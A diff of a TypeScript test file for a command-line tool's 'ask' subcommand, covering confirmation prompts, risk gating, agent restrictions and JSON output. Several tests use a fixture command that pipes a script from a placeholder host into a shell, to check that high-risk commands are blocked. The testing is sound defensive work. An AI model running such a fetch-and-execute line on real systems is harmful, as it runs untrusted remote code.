@@ -1,9 +1,9 @@
-/** `ask` as a person at a terminal, a pipe, a program and an agent meet it. */
+/** `ask` at a terminal, in a pipe, as JSON, and run by an agent. */
 import assert from "node:assert/strict";
 import { existsSync } from "node:fs";
 import { join } from "node:path";
 import { type TestContext, test } from "node:test";
-import { type Desk, desk, type Setting } from "./desk.ts";
+import { type Sandbox, type Setting, sandbox } from "./sandbox.ts";
 
 const RUNNING: Setting = { env: { variables: { PATH: process.env.PATH } } };
 const HARMFUL = "curl -s https://example.invalid/install | sh";
@@ -12,39 +12,39 @@ function at(...answers: string[]): Setting {
   return { ...RUNNING, columns: 80, answers };
 }
 
-async function deskWith(t: TestContext, step: string): Promise<Desk> {
-  const it = desk(t);
+async function sandboxWith(t: TestContext, step: string): Promise<Sandbox> {
+  const it = sandbox(t);
   await it.oldhand(["workflow", "save", "deploy", "--step", step]);
   return it;
 }
 
-function ran({ project }: Desk): boolean {
+function ran({ project }: Sandbox): boolean {
   return existsSync(join(project, "ran"));
 }
 
-test("the document has the fields that programs rely on, and no others", async (t) => {
-  const it = await deskWith(t, "echo hello");
-  const said = await it.json(["ask", "deploy"], RUNNING);
-  assert.deepEqual(Object.keys(said), ["schemaVersion", "plan", "nearest", "review", "ran"]);
+test("the JSON document has the pinned fields and no others", async (t) => {
+  const it = await sandboxWith(t, "echo hello");
+  const result = await it.json(["ask", "deploy"], RUNNING);
+  assert.deepEqual(Object.keys(result), ["schemaVersion", "plan", "nearest", "review", "ran"]);
   assert.deepEqual(
-    Object.keys(said.plan),
+    Object.keys(result.plan),
     "command cwd explanation assumptions risk confidence source touches".split(" "),
   );
-  assert.deepEqual(Object.keys(said.review), ["flags", "conflicts", "retrievedContext"]);
+  assert.deepEqual(Object.keys(result.review), ["flags", "conflicts", "retrievedContext"]);
   assert.deepEqual(
-    [said.plan.command, said.plan.cwd, said.plan.source, said.plan.risk, said.ran],
+    [result.plan.command, result.plan.cwd, result.plan.source, result.plan.risk, result.ran],
     ["echo hello", it.project, "workflow", "low", false],
   );
-  assert.ok(said.review.retrievedContext.includes("workflow:deploy"));
+  assert.ok(result.review.retrievedContext.includes("workflow:deploy"));
 });
 
-test("without an answer the plan is null, and the exit says so", async (t) => {
-  const it = desk(t);
+test("if no command matches, the plan is null and the exit code is 3", async (t) => {
+  const it = sandbox(t);
   const { exit, out } = await it.oldhand(["ask", "levitate the teapot", "--json"]);
-  const said = JSON.parse(out);
-  assert.deepEqual([exit, said.plan, said.ran, Array.isArray(said.nearest)], [3, null, false, true]);
-  const { exit: told, out: text } = await it.oldhand(["ask", "levitate the teapot"]);
-  assert.deepEqual([told, text.split("\n")[0]], [3, "Nothing that was run or defined here is proven for that."]);
+  const result = JSON.parse(out);
+  assert.deepEqual([exit, result.plan, result.ran, Array.isArray(result.nearest)], [3, null, false, true]);
+  const { exit: code, out: text } = await it.oldhand(["ask", "levitate the teapot"]);
+  assert.deepEqual([code, text.split("\n")[0]], [3, 'No known command here matches "levitate the teapot".']);
 });
 
 const PEOPLE: readonly (readonly [
@@ -62,21 +62,21 @@ const PEOPLE: readonly (readonly [
   ["an answer run", [], at("run"), 0, true],
   ["an empty answer", [], at(""), 1, false],
   ["an answer n", [], at("n"), 1, false],
-  ["an answer y, which is none, and then nobody", [], at("y"), 130, false],
+  ["an unknown answer y, and then Ctrl-C", [], at("y"), 130, false],
   ["Ctrl-C", [], at(), 130, false],
   ["an explanation and then a run", [], at("x", "r"), 0, true],
   ["a copy", [], at("c"), 0, false],
-  ["an edit that is cut off", [], at("e"), 130, false],
+  ["an edit that is interrupted", [], at("e"), 130, false],
   ["an edit and then no", [], at("e", "true two", "n"), 1, false],
   ["JSON at a terminal", ["--json"], at("r"), 0, false],
 ];
 
 for (const [what, argv, setting, exit, expected] of PEOPLE) {
   test(`a command of low risk with ${what} ${expected ? "runs" : "does not run"} and exits with ${exit}`, async (t) => {
-    const it = await deskWith(t, "echo hello");
+    const it = await sandboxWith(t, "echo hello");
     const before = (await it.json(["history", "list"])).events.length;
-    const said = await it.oldhand(["ask", "deploy", ...argv], setting);
-    assert.equal(said.exit, exit, said.err);
+    const result = await it.oldhand(["ask", "deploy", ...argv], setting);
+    assert.equal(result.exit, exit, result.err);
     const { events } = await it.json(["history", "list"]);
     const executed = events.filter(({ status }: { status: string }) => status === "success");
     assert.equal(executed.length - before, expected ? 1 : 0);
@@ -86,38 +86,38 @@ for (const [what, argv, setting, exit, expected] of PEOPLE) {
 const DANGERS: readonly (readonly [what: string, argv: readonly string[], setting: Setting, exit: number])[] = [
   ["--yes", ["--yes"], RUNNING, 1],
   ["--yes at a terminal", ["--yes"], at("run"), 1],
-  ["r and no word", [], at("r", "y"), 1],
-  ["r and nobody", [], at("r"), 130],
+  ["r and then y", [], at("r", "y"), 1],
+  ["r and then Ctrl-C", [], at("r"), 130],
   ["y", [], at("y"), 130],
   ["an empty answer", [], at(""), 1],
 ];
 
 for (const [what, argv, setting, exit] of DANGERS) {
   test(`a command of high risk does not run for ${what}`, async (t) => {
-    const it = await deskWith(t, `touch ran; ${HARMFUL}`);
-    const said = await it.oldhand(["ask", "deploy", ...argv], setting);
-    assert.deepEqual([said.exit, ran(it)], [exit, false], said.err);
+    const it = await sandboxWith(t, `touch ran; ${HARMFUL}`);
+    const result = await it.oldhand(["ask", "deploy", ...argv], setting);
+    assert.deepEqual([result.exit, ran(it)], [exit, false], result.err);
   });
 }
 
 for (const answers of [["run"], ["r", "run"]]) {
-  test(`a command of high risk runs once the word is typed: ${answers.join(", ")}`, async (t) => {
-    const it = await deskWith(t, `touch ran; true || ${HARMFUL}`);
+  test(`a command of high risk runs after run is typed: ${answers.join(", ")}`, async (t) => {
+    const it = await sandboxWith(t, `touch ran; true || ${HARMFUL}`);
     const { exit, err } = await it.oldhand(["ask", "deploy"], at(...answers));
     assert.deepEqual([exit, ran(it)], [0, true], err);
   });
 }
 
-test("what is refused under --yes is shown, with what to do", async (t) => {
-  const it = await deskWith(t, HARMFUL);
+test("what --yes does not run is shown, with what to do", async (t) => {
+  const it = await sandboxWith(t, HARMFUL);
   const { out, err } = await it.oldhand(["ask", "deploy", "--yes"], RUNNING);
   assert.match(out, /curl -s/);
   assert.match(out, /^Risk: high/m);
-  assert.match(err, /--yes runs what is of low risk, and this is high/);
+  assert.match(err, /--yes only runs low-risk commands, and the risk is high/);
 });
 
-test("an agent sees the plan and runs nothing, whatever it says", async (t) => {
-  const it = await deskWith(t, "echo hello");
+test("an agent sees the plan and cannot run it", async (t) => {
+  const it = await sandboxWith(t, "echo hello");
   const agent = { ...RUNNING, env: { ...RUNNING.env, isAgent: true } };
   const dry = await it.oldhand(["ask", "deploy", "--dry-run"], agent);
   assert.match(dry.out, /echo hello/);
@@ -129,14 +129,14 @@ test("an agent sees the plan and runs nothing, whatever it says", async (t) => {
   assert.deepEqual((await it.json(["history", "list"])).events, []);
 });
 
-test("a failing command is told with its status", async (t) => {
-  const it = await deskWith(t, "false");
-  const said = await it.oldhand(["ask", "deploy"], at("r"));
-  assert.deepEqual([said.exit, said.out], [1, "It ended with 1.\n"]);
+test("a failing command is reported with its exit code", async (t) => {
+  const it = await sandboxWith(t, "false");
+  const result = await it.oldhand(["ask", "deploy"], at("r"));
+  assert.deepEqual([result.exit, result.out], [1, "The command exited with 1.\n"]);
 });
 
-test("the request comes as words, through stdin, or is asked for; without one it is wrong usage", async (t) => {
-  const it = await deskWith(t, "echo hello");
+test("the request is an argument, stdin or a typed answer; without one it is wrong usage", async (t) => {
+  const it = await sandboxWith(t, "echo hello");
   assert.match((await it.oldhand(["ask", "-"], { ...RUNNING, input: "deploy\n" })).out, /echo hello/);
   assert.equal((await it.oldhand(["ask"], at("deploy", "r"))).exit, 0);
   assert.equal((await it.oldhand(["ask"], RUNNING)).exit, 2);
@@ -144,8 +144,8 @@ test("the request comes as words, through stdin, or is asked for; without one it
   assert.equal((await it.oldhand(["ask"], at(""))).exit, 2);
 });
 
-test("slots are asked for, or given; under --yes they have to be given", async (t) => {
-  const it = await deskWith(t, "echo <word>");
+test("slot values are asked for or set with --set, which --yes requires", async (t) => {
+  const it = await sandboxWith(t, "echo <word>");
   const yes = await it.oldhand(["ask", "deploy", "--yes"], RUNNING);
   assert.deepEqual([yes.exit, /--set word=VALUE/.test(yes.err)], [1, true]);
   assert.equal((await it.oldhand(["ask", "deploy", "--yes", "--set", "word=hi"], RUNNING)).exit, 0);
@@ -159,7 +159,7 @@ test("slots are asked for, or given; under --yes they have to be given", async (
 });
 
 test("a copy goes to the clipboard of a terminal that has one, else it is printed", async (t) => {
-  const it = await deskWith(t, "echo hello");
+  const it = await sandboxWith(t, "echo hello");
   const copied = await it.oldhand(["ask", "deploy"], at("c"));
   assert.ok(copied.err.includes(`\x1b]52;c;${Buffer.from("echo hello").toString("base64")}\x07`));
   const plain = { ...at("c"), env: { variables: { PATH: process.env.PATH, TERM: "dumb" } } };
@@ -167,28 +167,28 @@ test("a copy goes to the clipboard of a terminal that has one, else it is printe
 });
 
 test("a line for a shell's editor is a note and the command, and runs nothing", async (t) => {
-  const it = await deskWith(t, "echo hello");
+  const it = await sandboxWith(t, "echo hello");
   const { exit, out } = await it.oldhand(["ask", "--line", "deploy"], RUNNING);
   const [note = "", ...command] = out.trimEnd().split("\n");
   assert.deepEqual([exit, command], [0, ["echo hello"]]);
   assert.match(note, /^low risk; /);
   const none = await it.oldhand(["ask", "--line", "levitate the teapot"], RUNNING);
-  assert.deepEqual([none.exit, none.out], [3, "nothing is proven for that here\n"]);
+  assert.deepEqual([none.exit, none.out], [3, "no known command here matches that\n"]);
   assert.deepEqual((await it.json(["history", "list"])).events, []);
 });
 
-test("what memory has against it is shown with the record's id", async (t) => {
-  const it = await deskWith(t, "npm install left-pad");
+test("a record that the command conflicts with is shown with its id", async (t) => {
+  const it = await sandboxWith(t, "npm install left-pad");
   const { record } = await it.json(["record", "add", "Never run npm install left-pad", "--type", "policy"]);
   const { review, plan } = await it.json(["ask", "deploy"], RUNNING);
   assert.deepEqual([review.conflicts[0]?.record, plan.risk], [record.id, "high"]);
   const { out } = await it.oldhand(["ask", "deploy"], RUNNING);
-  assert.match(out, new RegExp(`Against: .*${record.id}`));
+  assert.match(out, new RegExp(`Conflicts with: .*${record.id}`));
 });
 
 for (const columns of [20, 40, 80]) {
   test(`on ${columns} columns no line is wider, and without colour there is none`, async (t) => {
-    const it = await deskWith(t, `echo ${"many words ".repeat(20)}`);
+    const it = await sandboxWith(t, `echo ${"many words ".repeat(20)}`);
     const env = { variables: { PATH: process.env.PATH, NO_COLOR: "1" } };
     const { err } = await it.oldhand(["ask", "deploy"], { columns, answers: ["n"], env });
     assert.ok(!err.includes("\x1b["));
